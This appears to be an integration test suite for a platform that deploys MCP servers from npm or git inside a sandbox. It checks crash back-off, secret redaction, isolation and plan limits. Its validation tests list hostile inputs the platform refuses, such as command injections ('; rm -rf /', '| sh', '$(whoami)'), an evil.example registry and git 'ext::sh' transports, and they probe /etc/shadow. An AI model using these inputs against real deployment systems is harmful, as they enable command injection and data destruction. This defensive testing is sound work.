import { existsSync } from "node:fs";
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, signedInUser, type Client, type TestApp } from "../../../../tests/support/app.js";
import { EVERYTHING, addCatalogEntry, alive, deploymentsOf, registerOwnedServer, removeDataDir, waitForStatus } from "../../../../tests/support/deployments.js";
import { createFixtureRepo, type FixtureRepo } from "../../../../tests/support/git-fixture.js";
import { DEPLOY_TEXT, SANDBOX_TEXT, type DeploymentView } from "../../../shared/deployments.js";
import { loadConfig } from "../../config.js";
import { createLogger } from "../../log.js";
import { createHosting } from "../runtime/sandbox/detect.js";
import { GIT_TEXT } from "../runtime/git-url.js";
import { NPX_TEXT } from "../runtime/npx.js";

let t: TestApp;
let repo: FixtureRepo;
let owner: Client & { id: string };

const text = (r: unknown) => ((r as { content: { text: string }[] }).content[0]?.text ?? "");

const registerFixture = (c: Client, username: string, name = "fixture") => registerOwnedServer(c, `${username}/${name}`);

async function deployFixture(c: Client, qn: string, env: Record<string, string> = {}) {
  const r = await c.post(`/api/deploy/${qn}`, { repositoryUrl: repo.url, env });
  expect(r.status, await r.clone().text()).toBe(202);
  return ((await r.json()) as { deploymentInfo: DeploymentView }).deploymentInfo;
}

beforeAll(async () => {
  t = await createTestApp({ GIT_ALLOW_FILE: "on", RESTART_BACKOFF_MS: "200", CRASH_LOOP_AFTER: "3", DEPLOY_START_TIMEOUT_MS: "20000" });
  repo = await createFixtureRepo();
  owner = await signedInUser(t, "owner@example.com");
  await registerFixture(owner, "owner");
  await addCatalogEntry(t, "everything", `npx -y ${EVERYTHING}`);
}, 120_000);
afterAll(async () => {
  await t?.close();
  await repo?.cleanup();
});

describe("deploying from npm", () => {
  it("installs server-everything, reaches running, lists its tools, and stops", async () => {
    const dana = await signedInUser(t, "dana@example.com");
    const r = await dana.post("/api/deploy/everything", { env: {} });
    expect(r.status).toBe(202);
    const body = (await r.json()) as { success: boolean; message: string; deploymentInfo: DeploymentView };
    expect(body.success).toBe(true);
    expect(body.message).toBe(DEPLOY_TEXT.started);
    expect(body.deploymentInfo).toMatchObject({ server_id: "everything", status: "queued", host_port: 3000 });
    expect(body.deploymentInfo.url).toBe(`http://localhost:3000/${body.deploymentInfo.proxy_id}/mcp`);

    const running = await waitForStatus(dana, "everything", "running", 180_000);
    const client = t.runtime.runner.client(running.id)!;
    const tools = (await client.listTools()).tools.map((x) => x.name);
    expect(tools).toContain("echo");
    expect(text(await client.callTool({ name: "echo", arguments: { message: "hi there" } }))).toContain("hi there");

    // Everyone sees the tools on the server page, from the stored listing.
    const page = await (await t.app.request("http://localhost:3000/server/everything")).text();
    expect(page).toContain("Tools");
    expect(page).toMatch(/>echo</);

    // GET /api/deployments lists it; another user sees nothing of it.
    expect(((await (await dana.get("/api/deployments")).json()) as DeploymentView[]).map((d) => d.id)).toEqual([running.id]);
    const { pid } = (await t.db.database.pool.query("select pid from deployments where id = $1", [running.id])).rows[0] as { pid: number };
    expect(alive(pid)).toBe(true);
    const stranger = await signedInUser(t, "stranger@example.com");
    expect((await stranger.del(`/api/deployments/${running.id}`)).status).toBe(404);
    expect((await stranger.get(`/api/deployments/${running.id}/logs`)).status).toBe(404);

    const stop = await dana.del(`/api/deployments/${running.id}`);
    expect(stop.status).toBe(200);
    expect(await stop.json()).toEqual({ success: true, message: DEPLOY_TEXT.stopped });
    expect(alive(pid)).toBe(false);
    expect(await deploymentsOf(dana, "everything")).toEqual([]);
  }, 240_000);

  it("a second deploy of the same version starts from the cache in well under 3 s", async () => {
    const erin = await signedInUser(t, "erin@example.com");
    const t0 = performance.now();
    await erin.post("/api/deploy/everything", { env: {} });
    const d = await waitForStatus(erin, "everything", "running", 30_000);
    expect(performance.now() - t0).toBeLessThan(3000);
    await erin.del(`/api/deployments/${d.id}`);
  }, 60_000);
});

describe("deploying from a git repository", () => {
  it("clones, installs and runs the fixture; it answers tools/list and tools/call", async () => {
    const d = await deployFixture(owner, "owner/fixture", { FIXTURE_TOKEN: "tok-abcdef-123456" });
    expect(d.source).toBe(repo.url);
    const running = await waitForStatus(owner, "owner/fixture", "running");
    const client = t.runtime.runner.client(running.id)!;
    expect((await client.listTools()).tools.map((x) => x.name)).toEqual(expect.arrayContaining(["echo", "add", "read_file"]));
    expect(text(await client.callTool({ name: "add", arguments: { a: 2, b: 40 } }))).toBe("42");
    // Its environment: its own secret, a minimal PATH/HOME, nothing of the platform's.
    const names = text(await client.callTool({ name: "list_env", arguments: {} })).split("\n");
    const expected = ["FIXTURE_TOKEN", "HOME", "PATH", ...(t.runtime.runner.sandbox.kind === "bwrap" ? ["PWD"] : []), ...(process.env.NODE_EXTRA_CA_CERTS ? ["NODE_EXTRA_CA_CERTS"] : [])];
    expect(names.sort()).toEqual(expected.sort());
    expect(text(await client.callTool({ name: "get_env", arguments: { name: "FIXTURE_TOKEN" } }))).toBe("tok-abcdef-123456");
    // Total Deployments on the owned server's page counts real deploys.
    const page = await (await t.app.request("http://localhost:3000/server/owner/fixture")).text();
    expect(page).toMatch(/Total Deployments<\/dt><dd[^>]*>1</);
    expect(page).toMatch(/Status<\/dt><dd[^>]*>Deployed</);
    await owner.del(`/api/deployments/${running.id}`);
  }, 120_000);
});

describe("when things go wrong", () => {
  it("a server that exits at start fails with its exit code and last output, not a bare 'failed'", async () => {
    const c = await signedInUser(t, "fail@example.com");
    await registerFixture(c, "fail");
    await deployFixture(c, "fail/fixture", { FIXTURE_EXIT_ON_START: "5" });
    const d = await waitForStatus(c, "fail/fixture", "failed", 60_000);
    expect(d.exit_code).toBe(5);
    expect(d.status_detail).toContain("Exited with code 5");
    expect(d.status_detail).toContain("fixture refusing to start");
    // A failed deployment does not hold the plan's running slot: a new deploy replaces it.
    await deployFixture(c, "fail/fixture", {});
    expect(existsSync(`${t.config.DATA_DIR}/deployments/${d.id}`)).toBe(false);
    const again = await waitForStatus(c, "fail/fixture", "running", 60_000);
    await c.del(`/api/deployments/${again.id}`);
  }, 120_000);

  it("a crashing server is restarted with doubling back-off and marked crash-looping", async () => {
    const c = await signedInUser(t, "crash@example.com");
    await registerFixture(c, "crash");
    await deployFixture(c, "crash/fixture", { FIXTURE_CRASH_AFTER_MS: "300" });
    await waitForStatus(c, "crash/fixture", "running", 60_000);
    const crashed = await waitForStatus(c, "crash/fixture", "crashed", 30_000);
    expect(crashed.restarts).toBe(1);
    expect(crashed.status_detail).toMatch(/Exited with code 3; restarting in 200 ms/);
    // Back-off 200, 400, 800 ms: the 3rd crash in a row is crash-looping, still restarting after 800 ms.
    const looping = await waitForStatus(c, "crash/fixture", "crash_looping", 60_000);
    expect(looping.restarts).toBe(3);
    expect(looping.status_detail).toMatch(/crashed 3 times in a row; restarting in 800 ms/);
    const logs = (await (await c.get(`/api/deployments/${looping.id}/logs`)).json()) as { lines: string[] };
    expect(logs.lines.join("\n")).toContain("crash timer fired");
    await c.del(`/api/deployments/${looping.id}`);
  }, 120_000);
});

describe("the shared package cache", () => {
  it("does not keep a package that takes more than a deployment's disk limit, and says why", async () => {
    const packagesDir = await fs.mkdtemp(path.join(os.tmpdir(), "switchboard-small-cache-"));
    const small = await createTestApp({ DEPLOY_DISK_MB: "16", PACKAGES_DIR: packagesDir });
    try {
      await addCatalogEntry(small, "everything", `npx -y ${EVERYTHING}`);
      const c = await signedInUser(small, "big@example.com");
      expect((await c.post("/api/deploy/everything", { env: {} })).status).toBe(202);
      const d = await waitForStatus(c, "everything", "failed", 180_000);
      // Refused while it installs (it wrote more than twice the limit) or once installed, whichever comes first.
      expect(d.status_detail).toMatch(/^The npm package @modelcontextprotocol\/server-everything@\S+ (takes \d+ MB with its dependencies, more than|is larger than) the 16 MB a deployment may use/);
      expect((await fs.readdir(packagesDir)).filter((f) => f.includes("server-everything"))).toEqual([]);
    } finally {
      await small.close();
      await removeDataDir(packagesDir);
    }
  }, 240_000);
});

describe("secrets and isolation", () => {
  it("a secret is absent from logs, API answers, the database and other children's environment", async () => {
    const secret = "sk-live-VERYSECRET-0123456789";
    const c = await signedInUser(t, "secret@example.com");
    await registerFixture(c, "secret");
    const info = await deployFixture(c, "secret/fixture", { API_TOKEN: secret, FIXTURE_PRINT_ENV: "1" });
    expect(JSON.stringify(info)).not.toContain(secret);
    const d = await waitForStatus(c, "secret/fixture", "running", 60_000);
    const logsRes = await (await c.get(`/api/deployments/${d.id}/logs`)).text();
    expect(logsRes).toContain("API_TOKEN=••••••");
    expect(logsRes).not.toContain(secret);
    expect(await (await c.get("/api/deployments")).text()).not.toContain(secret);
    const stored = (await t.db.database.pool.query("select secrets from deployments where id = $1", [d.id])).rows[0] as { secrets: string };
    expect(stored.secrets).toMatch(/^v1\./);
    expect(stored.secrets).not.toContain(secret);

    // The other user's child sees none of it.
    const o = await signedInUser(t, "other@example.com");
    await registerFixture(o, "other");
    await deployFixture(o, "other/fixture", {});
    const od = await waitForStatus(o, "other/fixture", "running", 60_000);
    const client = t.runtime.runner.client(od.id)!;
    expect(text(await client.callTool({ name: "get_env", arguments: { name: "API_TOKEN" } }))).toBe("(unset)");

    if (t.runtime.runner.sandbox.kind === "bwrap") {
      // Sandboxed: the platform's data, another deployment's directory and the database are out of reach.
      const read = async (p: string) => text(await client.callTool({ name: "read_file", arguments: { path: p } }));
      expect(await read(`${t.config.DATA_DIR}/secrets-key`)).toMatch(/^ERROR ENOENT/);
      expect(await read(`${t.config.DATA_DIR}/deployments/${d.id}/app/package.json`)).toMatch(/^ERROR ENOENT/);
      expect(await read(`${t.config.DATA_DIR}/deployments/${od.id}/app/package.json`)).toContain("mcp-fixture");
      expect(await read("/etc/shadow")).toMatch(/^ERROR ENOENT/);
      const pg = new URL(t.db.url);
      expect(text(await client.callTool({ name: "try_connect", arguments: { host: "127.0.0.1", port: Number(pg.port || 5432) } }))).toMatch(/^refused/);
    } else {
      console.warn("bwrap is not available here: the sandbox checks did not run");
    }
    await c.del(`/api/deployments/${d.id}`);
    await o.del(`/api/deployments/${od.id}`);
  }, 120_000);

  it.each([
    ["npx -y pkg; rm -rf /", NPX_TEXT.shell],
    ["npx pkg && curl x", NPX_TEXT.shell],
    ["npx pkg | sh", NPX_TEXT.shell],
    ["npx $(whoami)", NPX_TEXT.shell],
    ["npx `id`", NPX_TEXT.shell],
    ["npx pkg\nrm -rf /", NPX_TEXT.newline],
    ["npx -c sh", NPX_TEXT.forbiddenOption("-c")],
    ["npx --call=sh pkg", NPX_TEXT.forbiddenOption("--call")],
    ["npx --registry=https://evil.example pkg", NPX_TEXT.forbiddenOption("--registry")],
    ["npx pkg --registry https://evil.example", NPX_TEXT.forbiddenOption("--registry")],
    ["npx pkg --prefix /tmp", NPX_TEXT.forbiddenOption("--prefix")],
    ["bash -c id", NPX_TEXT.mustStartWithNpx],
  ])("refuses the npx command %j", async (cmd, message) => {
    const r = await owner.post("/api/deploy/owner/fixture", { npx_command: cmd, env: {} });
    expect(r.status).toBe(400);
    expect(((await r.json()) as { error: string }).error).toBe(message);
  });

  it.each([
    ["git@github.com:a/b.git", GIT_TEXT.ssh],
    ["ssh://github.com/a/b", GIT_TEXT.ssh],
    ["http://github.com/a/b", GIT_TEXT.http],
    ["https://user:pw@github.com/a/b", GIT_TEXT.credentials],
    ["https://127.0.0.1/a/b", GIT_TEXT.host],
    ["--upload-pack=touch /tmp/x", GIT_TEXT.option],
    ["ext::sh -c id", GIT_TEXT.transport],
  ])("refuses the repository URL %j", async (url, message) => {
    const r = await owner.post("/api/deploy/owner/fixture", { repositoryUrl: url, env: {} });
    expect(r.status).toBe(400);
    expect(((await r.json()) as { error: string }).error).toBe(message);
  });

  it("refuses reserved environment names and checks ownership and required keys", async () => {
    const bad = await owner.post("/api/deploy/owner/fixture", { repositoryUrl: repo.url, env: { NODE_OPTIONS: "--require /tmp/x.js" } });
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: string }).error).toBe(DEPLOY_TEXT.reservedEnv("NODE_OPTIONS"));
    const intruder = await signedInUser(t, "intruder@example.com");
    const r = await intruder.post("/api/deploy/owner/fixture", { repositoryUrl: repo.url, env: {} });
    expect(r.status).toBe(403);
    expect(((await r.json()) as { error: string }).error).toBe(DEPLOY_TEXT.notOwner);
    await addCatalogEntry(t, "needs-keys", `npx -y ${EVERYTHING}`, [
      { key: "GitHub Token", env_var: "GITHUB_TOKEN", description: "A token" },
      { key: "Org", env_var: "ORG", description: "Organisation" },
    ]);
    const missing = await intruder.post("/api/deploy/needs-keys", { env: { ORG: "acme" } });
    expect(missing.status).toBe(400);
    expect(((await missing.json()) as { error: string }).error).toBe("Missing required API keys: GitHub Token");
    const anonymous = await t.app.request("http://localhost:3000/api/deploy/everything", { method: "POST", headers: { "content-type": "application/json", origin: "http://localhost:3000" }, body: "{}" });
    expect(anonymous.status).toBe(401);
  });
});

describe("plan limits", () => {
  it("10 parallel deploy requests from a Free user end with exactly 1 deployment; the 4th deploy of the month is refused", async () => {
    const c = await signedInUser(t, "parallel@example.com");
    for (let i = 0; i < 10; i++) await addCatalogEntry(t, `par-${i}`, `npx -y ${EVERYTHING}`);
    const answers = await Promise.all(Array.from({ length: 10 }, (_, i) => c.post(`/api/deploy/par-${i}`, { env: {} })));
    const codes = answers.map((r) => r.status).sort();
    expect(codes).toEqual([202, 403, 403, 403, 403, 403, 403, 403, 403, 403]);
    const refused = answers.find((r) => r.status === 403)!;
    expect(((await refused.json()) as { error: string }).error).toBe(DEPLOY_TEXT.runningLimit("Free", 1));
    const mine = (await (await c.get("/api/deployments")).json()) as DeploymentView[];
    expect(mine).toHaveLength(1);
    const first = await waitForStatus(c, mine[0]!.server_id, "running", 60_000);

    // Deploys 2 and 3 of the month are allowed (after stopping), the 4th is not.
    await c.del(`/api/deployments/${first.id}`);
    for (const id of ["par-1", "par-2"]) {
      const r = await c.post(`/api/deploy/${id}`, { env: {} });
      expect(r.status).toBe(202);
      const d = ((await r.json()) as { deploymentInfo: DeploymentView }).deploymentInfo;
      await c.del(`/api/deployments/${d.id}`);
    }
    const fourth = await c.post("/api/deploy/par-3", { env: {} });
    expect(fourth.status).toBe(403);
    expect(((await fourth.json()) as { error: string }).error).toBe(DEPLOY_TEXT.monthlyLimit("Free", 3));
  }, 120_000);
});

describe("accounts and operators", () => {
  it("deleting an account stops its deployments first", async () => {
    const c = await signedInUser(t, "leaving@example.com");
    await registerFixture(c, "leaving");
    await deployFixture(c, "leaving/fixture", {});
    const d = await waitForStatus(c, "leaving/fixture", "running", 60_000);
    const { pid } = (await t.db.database.pool.query("select pid from deployments where id = $1", [d.id])).rows[0] as { pid: number };
    expect(alive(pid)).toBe(true);
    expect((await c.del(`/api/users/${c.id}`, { confirmEmail: "leaving@example.com" })).status).toBe(200);
    expect(alive(pid)).toBe(false);
    expect((await t.db.database.pool.query("select count(*)::int as n from deployments where id = $1", [d.id])).rows[0]).toEqual({ n: 0 });
  }, 120_000);

  it("without a sandbox the admin page says so loudly, and only admins may deploy (unless the operator opts in)", async () => {
    const plain = await createTestApp({ SANDBOX: "off", ADMIN_EMAILS: "ops@example.com" });
    try {
      const ops = await signedInUser(plain, "ops@example.com");
      const page = await (await ops.get("/admin/mcp-servers")).text();
      expect(page).toContain("SANDBOX=off: hosted MCP servers run as plain processes");
      expect(page).toContain(SANDBOX_TEXT.adminsOnly);
      expect(page).toMatch(/data-testid="guarantee-namespaces" data-ok="false"/);
      await addCatalogEntry(plain, "everything", `npx -y ${EVERYTHING}`);
      const user = await signedInUser(plain, "user@example.com");
      const refused = await user.post("/api/deploy/everything", { env: {} });
      expect(refused.status).toBe(503);
      expect(((await refused.json()) as { error: string }).error).toBe(DEPLOY_TEXT.hostingClosed);
      expect(await deploymentsOf(user, "everything")).toEqual([]);
      const serverPage = await (await user.get("/server/everything")).text();
      expect(serverPage).toContain(DEPLOY_TEXT.hostingClosed);
      const accepted = await ops.post("/api/deploy/everything", { env: {} });
      expect(accepted.status).toBe(202);
      const d = await waitForStatus(ops, "everything", "running", 60_000);
      expect((await (await ops.get("/server/everything")).text()).includes(DEPLOY_TEXT.hostingClosed)).toBe(false);

      // After a restart on this machine, a deployment of someone who is not an admin stays down, and says why.
      const other = await signedInUser(plain, "earlier@example.com");
      await plain.db.database.pool.query(
        `insert into deployments (id, user_id, server_kind, server_ref, source, secrets, status, proxy_id) values ('00000000-0000-4000-8000-000000000001', $1, 'catalog', 'everything', $2, $3, 'running', 'recovered-proxy')`,
        [other.id, JSON.stringify({ kind: "npm", package: EVERYTHING, version: null, args: [] }), plain.box.seal({})],
      );
      await plain.services.deployments.recover();
      const [kept] = await deploymentsOf(other, "everything");
      expect(kept).toMatchObject({ status: "failed", status_detail: DEPLOY_TEXT.hostingClosed });
      await ops.del(`/api/deployments/${d.id}`);
    } finally {
      await plain.close();
    }
    const open = await createTestApp({ SANDBOX: "off", SANDBOX_INCOMPLETE: "everyone" });
    try {
      await addCatalogEntry(open, "everything", `npx -y ${EVERYTHING}`);
      const user = await signedInUser(open, "anyone@example.com");
      const r = await user.post("/api/deploy/everything", { env: {} });
      expect(r.status).toBe(202);
      const d = ((await r.json()) as { deploymentInfo: DeploymentView }).deploymentInfo;
      await user.del(`/api/deployments/${d.id}`);
    } finally {
      await open.close();
    }
  }, 120_000);

  it("refuses to start when the sandbox uids would include a real account of the host", async (ctx) => {
    if (process.getuid?.() !== 0) return ctx.skip("own uids per deployment need a root platform");
    const dir = await fs.mkdtemp(path.join(os.tmpdir(), "switchboard-uids-"));
    try {
      const config = loadConfig({ NODE_ENV: "test", DATA_DIR: dir, SANDBOX_UID_BASE: "1000" });
      const hosting = createHosting(config, { data: dir, deployments: path.join(dir, "deployments"), packages: path.join(dir, "packages") }, createLogger({ level: "silent", pretty: false }));
      // nobody (65534) is an account on every Debian system.
      await expect(hosting).rejects.toThrow(/SANDBOX_UID_BASE 1000\.\.66535 includes \w+ \(\d+\) of \/etc\/(passwd|group)/);
    } finally {
      await removeDataDir(dir);
    }
  });

  it("SANDBOX=strict refuses to start where a protection is missing, naming it", async () => {
    const dir = await fs.mkdtemp(path.join(os.tmpdir(), "switchboard-strict-"));
    try {
      const config = loadConfig({ NODE_ENV: "test", DATA_DIR: dir, SANDBOX: "strict", SANDBOX_NETWORK: "host" });
      const start = createHosting(config, { data: dir, deployments: path.join(dir, "deployments"), packages: path.join(dir, "packages") }, createLogger({ level: "silent", pretty: false }));
      await expect(start).rejects.toThrow(/SANDBOX=strict[\s\S]*Egress to public addresses only: missing/);
    } finally {
      await removeDataDir(dir);
    }
  });
});
